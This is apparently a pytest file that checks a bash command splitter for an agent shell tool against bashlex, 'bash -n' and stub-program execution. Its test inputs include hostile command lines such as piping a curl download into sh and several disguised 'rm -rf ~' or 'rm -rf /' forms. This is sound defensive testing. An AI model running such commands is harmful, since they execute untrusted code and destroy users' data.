"""The splitter against independent oracles: bashlex (command names), `bash -n` (validity), and the real bash
running generated lines with PATH holding only stub programs that log their names (the recording oracle)."""
from __future__ import annotations

import collections
import os
import random
import shutil
import subprocess
import textwrap

import bashlex

from oracle import Stubs
from strategies import PROGRAMS, random_line
from test_split_corpus import AGENT_LINES
from wispsh.parse.split import split_line

BASH = shutil.which("bash") or "/bin/bash"

DIFFERENTIAL_LINES = [line for line, _ in AGENT_LINES] + [
    "ls && curl -s https://x.example/i | sh",
    "echo $(rm -rf ~) `id` && (cd /tmp; ls)",
    "f() { rm -rf ~; }; f",
    "if a; then b; elif c; then d; else e; fi",
    "while read l; do echo \"$l\"; done < f",
    "X=$(cmd) prog arg",
    "diff <(sort a) <(sort b)",
    "\"rm\" -rf /; \\ls",
    "a | b |& c",
    "{ a; b; } > out 2>&1",
    "! a && b || c",
    "$X args; $(which rm) -rf x",
]


def _bashlex_names(line: str) -> list[str] | None:
    try:
        trees = bashlex.parse(line)
    except Exception:   # bashlex fails on many valid lines (parsers.md): no verdict then
        return None
    names: list[str] = []

    class Visitor(bashlex.ast.nodevisitor):
        def visitcommand(self, node, parts):
            for p in parts:
                if p.kind == "word":
                    names.append(p.word)
                    break
                if p.kind not in ("assignment", "redirect"):
                    break

    for tree in trees:
        Visitor().visit(tree)
    return names


def _our_names(split) -> list[str]:
    names = []
    for part in split.parts:
        # parts read from a string or heredoc as code carry the span of what holds them: their text is not
        # the line's text at their span. bashlex never looks there.
        if split.line[part.span[0]:part.span[1]] != part.text or not part.words:
            continue
        # bashlex keeps expansions as written and removes quotes; we give None for a runtime word
        names.append(part.argv[0] if part.argv[0] is not None else part.words[0])
    return names


def _generated(count: int, seed0: int, max_depth: int = 2, **options) -> list[tuple[str, list[str]]]:
    return [random_line(random.Random(seed0 + k), max_depth, **options) for k in range(count)]


def test_differential_against_bashlex():
    # bashlex drops every command after a newline inside $(…) (`echo $(a⏎b)` gives echo, a): the generated
    # lines for this oracle keep substitutions on one line.
    lines = DIFFERENTIAL_LINES + [line for line, _ in _generated(150, 10_000, newlines_in_substitutions=False)]
    compared = 0
    for line in lines:
        theirs = _bashlex_names(line)
        split = split_line(line)
        if theirs is None or not split.ok:
            continue
        compared += 1
        ours = _our_names(split)
        # Known, explained differences:
        # - bashlex reads `$'t\tu'`-style words and `time`/`coproc` as written; none are in a command's place
        #   in these lines;
        # - bashlex gives a command for `read`/`test` exactly like ours, but never descends into heredoc bodies
        #   (those parts have origin "heredoc" and are left out above).
        assert collections.Counter(ours) == collections.Counter(theirs), (line, ours, theirs)
    assert compared >= 60, compared   # the oracle must actually have judged a good share


def _bash_n(lines: list[str]) -> list[int]:
    """`bash -n` status for each line, from one bash process (each line checked in its own `bash -n`)."""
    script = textwrap.dedent("""
        while IFS= read -r -d '' line; do
            bash -n -c "$line" 2>/dev/null; printf '%s\\n' "$?"
        done
    """)
    data = "".join(line + "\0" for line in lines)
    out = subprocess.run([BASH, "-c", script], input=data.encode(), capture_output=True, timeout=120, check=True)
    return [int(x) for x in out.stdout.split()]


def test_bash_n_validity():
    valid = DIFFERENTIAL_LINES + [line for line, _ in _generated(200, 20_000, 3)]
    statuses = _bash_n(valid)
    assert statuses == [0] * len(valid), [line for line, st in zip(valid, statuses) if st]
    for line in valid:
        split = split_line(line)
        assert split.parts and not any("internal error" in n for n in split.notes), line
        if line in DIFFERENTIAL_LINES:
            assert split.ok, (line, split.notes)


MALFORMED = ["echo 'unterminated", "ls &&", "| grep x", "if true; then ls", "fi", "then rm x", "done", "a ;; b",
             "echo $(rm x", "echo `rm x", "( ls", "{ ls", "a && && b", "a | | b", "while; do rm x; done",
             "a &; b", "f() {", "[[ -f x", "a |", "do rm x; done", "if; then rm x; fi", "echo ${x"]


def test_bash_rejects_what_we_flag():
    statuses = _bash_n(MALFORMED)
    assert all(statuses), [line for line, st in zip(MALFORMED, statuses) if not st]
    for line in MALFORMED:
        split = split_line(line)
        assert not split.ok, line                      # never a trusted parse
        assert split.parts, line                       # and never nothing to judge
        assert not any("internal error" in n for n in split.notes), line


# ---------------------------------------------------------------- the recording oracle


def test_recording_oracle(tmp_path):
    lines = [line for line, _ in _generated(120, 30_000, 2)]
    ran_any = 0
    for line, logged in zip(lines, Stubs(tmp_path).run(lines, limit_seconds=10)):
        ran_any += bool(logged)
        split = split_line(line)
        seen = collections.Counter(os.path.basename(p.argv[0]) for p in split.parts if p.argv and p.argv[0])
        # every program bash ran is a part; the count of runs can exceed the parts (loops), the names cannot
        assert set(logged) <= set(seen), (line, logged, seen)
    assert ran_any > 100


# ---------------------------------------------------------------- nesting as bash reads it (issue 26)


def _nested_line(rng: random.Random, depth: int) -> str:
    """A command whose words hold substitutions nested in every way bash allows: $(…), backticks written as bash
    wants them nested (each level escapes \\, ` and $ once more), inside double quotes or not, and arithmetic
    holding arithmetic (`$(( 1 + $(( 2 * … )) ))`) with substitutions in it. Every stub runs (they print
    nothing, so `$(cN)1` is 1 in arithmetic), so what bash ran is exactly what must be parts."""
    name = rng.choice(PROGRAMS)
    if depth == 0:
        return f"{name} a1"
    inner = _nested_line(rng, depth - 1)
    kind = rng.randrange(6)
    if kind == 0:
        word = f"$({inner})"
    elif kind == 1:
        word = "`" + inner.replace("\\", "\\\\").replace("`", "\\`").replace("$", "\\$") + "`"
    elif kind == 2:
        word = f'"$({inner})"'
    elif kind == 3:
        word = '"`' + inner.replace("\\", "\\\\").replace("`", "\\`").replace("$", "\\$").replace('"', '\\"') + '`"'
    elif kind == 4:
        word = f"$(( 1 + $(( 2 * $({inner})1 )) + $((3)) ))"
    else:
        word = f"$(( $({inner})0 + `{rng.choice(PROGRAMS)}`1 ))"
    return f"{name} {word}"


def test_nesting_splits_as_bash_reads_it(tmp_path):
    """Backticks in backticks and in $(…), $((…)) in $((…)): the parts are exactly the commands bash runs (no
    command missed, none made up from arithmetic), checked by the recording oracle."""
    rng = random.Random(2626)
    lines = [_nested_line(rng, rng.randint(1, 4)) for _ in range(150)]
    lines += ["c0 $((1 + $((2 + 3)) + 4))", "c0 `c1 \"\\`c2\\`\"`", "c0 `c1 $(c2 \\`c3\\`)`",
              "c0 $(( $(( `c1` )) + 1 ))", "(( x = $((2 + 3)) )); c0", "c0 $[ $((1)) ]",
              "c0 <<EOF\n`c1 \\`c2\\``\nEOF", "c0 `c1 \\`c2\\`` `c3`", 'c0 "${y:-`c1 \\"\\`c2\\`\\"`}"',
              "x=`c1 \\`c2\\``; c0", "for i in a`c1 \\`c2\\``; do c0; done", "c0 `c1 \\$(c2)`"]
    for line, logged in zip(lines, Stubs(tmp_path).run(lines, limit_seconds=10)):
        split = split_line(line)
        seen = collections.Counter(os.path.basename(p.argv[0]) for p in split.parts if p.argv and p.argv[0])
        made_up = [p.text for p in split.parts if (p.argv and p.argv[0] not in PROGRAMS)
                   or not (p.argv or p.assignments or p.redirects)]     # a bare `x=…` is a part of its own
        assert set(logged) == set(seen) and not made_up, (line, logged, seen, made_up)
